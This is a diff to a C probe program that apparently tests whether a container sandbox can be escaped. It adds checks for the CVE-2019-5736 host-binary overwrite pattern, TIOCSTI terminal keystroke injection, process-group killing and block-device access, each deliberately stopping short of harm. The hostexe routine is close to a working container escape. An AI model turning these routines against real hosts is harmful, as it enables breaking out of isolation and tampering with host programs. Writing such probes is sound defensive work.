@@ -16,6 +16,15 @@
  *                when this kernel lacks the thing probed; 2 is a probe error. Nothing is ever written to a
  *                host file: writes are proved by opening for writing, devices are opened read-only.
  *   escape listen NAME   listen on the abstract unix socket @NAME (the host side of `escape unix`)
+ *   The three attacks of issue 12 (each never harms the host):
+ *   escape hostexe SCRIPT   the CVE-2019-5736 pattern: writes SCRIPT = "#!/proc/self/exe -", then waits for a
+ *                process whose argv is "/proc/self/exe - SCRIPT" (a host program that ran SCRIPT and was started
+ *                again by the kernel as its interpreter), opens its /proc/PID/exe, kills it, and reopens that
+ *                descriptor for WRITING through /proc/self/fd: ALLOWED when the open succeeds (nothing is written)
+ *   escape tiocsti FD    pushes "#gb-injected" (a comment, no newline) into the terminal on FD with TIOCSTI
+ *   escape killpg        ignores SIGTERM, then kill(0, SIGTERM): its whole process group; prints what it sent
+ *                (the test decides from the fate of a host process in the caller's group)
+ *   escape blockdev PATH opens a block device node read-only
  *   euid         "euid=N" (the setuid probe runs a setuid-root copy of the probe with this)
  *
  * Build: gcc -static -O2 -o probe test/probe/probe.c
@@ -34,6 +43,7 @@
 #include <linux/rtnetlink.h>
 #include <sched.h>
 #include <sys/mount.h>
+#include <sys/ioctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -302,6 +312,125 @@ static int esc_fds(const char *marker) {
   return blocked_msg("no open descriptor leads out of the container");
 }
 
+/* Reads /proc/PID/cmdline into argv-like pieces; the count, or -1. */
+static int cmdline(const char *pid, char *buf, size_t size, char **args, int max) {
+  char path[300];
+  snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
+  int fd = open(path, O_RDONLY);
+  if (fd < 0) return -1;
+  ssize_t n = read(fd, buf, size - 1);
+  close(fd);
+  if (n <= 0) return -1;
+  buf[n] = '\0';
+  int c = 0;
+  for (char *p = buf; p < buf + n && c < max; p += strlen(p) + 1) args[c++] = p;
+  return c;
+}
+
+/* The CVE-2019-5736 pattern, up to the last step: could a host program that ran inside the container be written? */
+static int esc_hostexe(const char *script) {
+  int sfd = open(script, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+  if (sfd < 0) return fail(script);
+  if (write(sfd, "#!/proc/self/exe -\n", 19) != 19 || close(sfd) < 0) return fail(script);
+  chmod(script, 0755);
+  printf("watching for a host program running %s\n", script);
+  fflush(stdout);
+  int exe = -1;
+  char victim[300] = "";
+  for (int round = 0; exe < 0 && round < 60000; round++) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d)) && exe < 0) {
+      if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == getpid()) continue;
+      char buf[4096], *args[8];
+      int n = cmdline(e->d_name, buf, sizeof buf, args, 8);
+      if (n < 3 || strcmp(args[0], "/proc/self/exe") || strcmp(args[1], "-") || strcmp(args[2], script)) continue;
+      char path[300];
+      snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+      exe = open(path, O_RDONLY | O_CLOEXEC);
+      if (exe >= 0) snprintf(victim, sizeof victim, "%s", e->d_name);
+    }
+    if (d) closedir(d);
+    if (exe < 0) usleep(500);
+  }
+  if (exe < 0) {
+    fprintf(stderr, "probe: no host program ran %s\n", script);
+    return 2;
+  }
+  struct stat st;
+  fstat(exe, &st);
+  /* It loops (it runs the script again and again): end it, and wait until it is gone. */
+  pid_t p = (pid_t)atoi(victim);
+  kill(p, SIGKILL);
+  for (int i = 0; i < 100000; i++) {
+    char path[64], state = 0;
+    snprintf(path, sizeof path, "/proc/%d/stat", (int)p);
+    FILE *f = fopen(path, "r");
+    if (!f) break;
+    int got = fscanf(f, "%*d (%*[^)]) %c", &state);
+    fclose(f);
+    if (got == 1 && (state == 'Z' || state == 'X')) break;
+    usleep(200);
+  }
+  char self[64];
+  snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
+  for (int i = 0;; i++) {
+    int w = open(self, O_WRONLY);
+    if (w >= 0) {
+      close(w);
+      printf("ALLOWED: the host program %u:%lu (%ld bytes), caught as /proc/%s/exe, reopened for writing through %s (nothing written)\n",
+             (unsigned)st.st_dev, (unsigned long)st.st_ino, (long)st.st_size, victim, self);
+      return 0;
+    }
+    /* Text file busy: some process still runs it (it is not gone yet): ask again. */
+    if (errno != ETXTBSY || i > 5000) break;
+    usleep(1000);
+  }
+  printf("BLOCKED: the host program %u:%lu, caught as /proc/%s/exe, cannot be reopened for writing: %s\n", (unsigned)st.st_dev, (unsigned long)st.st_ino, victim, strerror(errno));
+  return 1;
+}
+
+/* Keystrokes pushed into a terminal's input with TIOCSTI (a comment, and no newline: nothing would run). */
+static int esc_tiocsti(const char *fdarg) {
+  int fd = atoi(fdarg);
+  if (!isatty(fd)) {
+    fprintf(stderr, "probe: descriptor %d is not a terminal\n", fd);
+    return 2;
+  }
+  const char *text = "#gb-injected";
+  for (const char *c = text; *c; c++) {
+    if (ioctl(fd, TIOCSTI, c) < 0) {
+      if (errno == EIO) {
+        printf("ABSENT: TIOCSTI is off in this kernel (dev.tty.legacy_tiocsti=0): %s\n", strerror(errno));
+        return 3;
+      }
+      return blocked("ioctl(TIOCSTI) on the terminal");
+    }
+  }
+  printf("ALLOWED: pushed %zu characters into the terminal's input with TIOCSTI\n", strlen(text));
+  return 0;
+}
+
+/* kill(0, SIGTERM): every process of the caller's process group. The probe itself survives (it ignores SIGTERM). */
+static int esc_killpg(void) {
+  signal(SIGTERM, SIG_IGN);
+  pid_t pg = getpgrp(), sid = getsid(0);
+  if (kill(0, SIGTERM) < 0) return blocked("kill(0, SIGTERM)");
+  printf("SENT: kill(0, SIGTERM) to process group %d, session %d (0: led from outside this PID namespace)\n", (int)pg, (int)sid);
+  return 0;
+}
+
+static int esc_blockdev(const char *path) {
+  int fd = open(path, O_RDONLY);
+  if (fd < 0) return blocked(path);
+  struct stat st;
+  fstat(fd, &st);
+  close(fd);
+  if (!S_ISBLK(st.st_mode)) return blocked_msg("not a block device");
+  printf("ALLOWED: opened the block device %s (%u:%u) read-only\n", path, major(st.st_rdev), minor(st.st_rdev));
+  return 0;
+}
+
 static int escape(int argc, char **argv) {
   const char *name = argv[0];
   const char *a = argc > 1 ? argv[1] : NULL;
@@ -318,6 +447,10 @@ static int escape(int argc, char **argv) {
   if (!strcmp(name, "iplink")) return esc_iplink();
   if (!strcmp(name, "unix") && a) return esc_unix(a);
   if (!strcmp(name, "fds") && a) return esc_fds(a);
+  if (!strcmp(name, "hostexe") && a) return esc_hostexe(a);
+  if (!strcmp(name, "tiocsti") && a) return esc_tiocsti(a);
+  if (!strcmp(name, "killpg")) return esc_killpg();
+  if (!strcmp(name, "blockdev") && a) return esc_blockdev(a);
   if (!strcmp(name, "listen") && a) { /* the host side of the unix probe: accept and close, forever */
     int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
     struct sockaddr_un addr = {.sun_family = AF_UNIX};
